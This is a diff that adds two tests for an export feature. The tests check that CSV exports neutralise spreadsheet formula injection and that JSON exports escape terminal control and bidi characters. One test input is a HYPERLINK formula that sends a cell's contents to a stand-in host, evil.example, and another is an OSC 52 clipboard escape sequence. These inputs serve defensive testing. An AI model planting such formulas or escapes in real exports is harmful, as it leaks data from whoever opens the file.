@@ -608,6 +608,31 @@ def test_csv_rows_are_the_action_items(seeded):
     assert [r["status"] for r in rows] == ["done", "open", "open"]
 
 
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(seeded):
+    store, iid = seeded
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    item = store.add_action(iid, hostile, "+cmd", None, "@SUM(1+1)")
+    other = store.add_action(iid, "esc \x1b]52;c;aGk=\x07 in a title", "-x", None, "=1+1")
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export(store, iid, "csv"), newline=""))}
+    assert rows[str(item.id)]["title"] == "'" + hostile
+    assert rows[str(item.id)]["owner"] == "'+cmd"
+    assert rows[str(item.id)]["ticket"] == "'@SUM(1+1)"
+    assert rows[str(other.id)]["title"] == "esc \u241b]52;c;aGk=\u2407 in a title"
+    assert rows[str(other.id)]["owner"] == "'-x" and rows[str(other.id)]["ticket"] == "'=1+1"
+    # The store keeps what was typed; only the CSV cell is made inert.
+    assert store.action_item(item.id).title == hostile
+
+
+def test_json_escapes_what_a_terminal_would_act_on_and_keeps_the_data(seeded):
+    store, iid = seeded
+    note = "c1 \x9b2J bidi \u202e zero \u200b sep \u2028 emoji \U0001f469\u200d\U0001f4bb"
+    store.add_entry(iid, note)
+    text = export(store, iid, "json")
+    assert "\\u009b" in text and "\\u202e" in text and "\\u200b" in text
+    assert not any(ch in text for ch in "\x9b\u202e\u200b\u2028")
+    assert note in [e["text"] for e in json.loads(text)["timeline"]]
+
+
 def test_unknown_format_is_a_usage_error(seeded):
     store, iid = seeded
     with pytest.raises(UsageError):
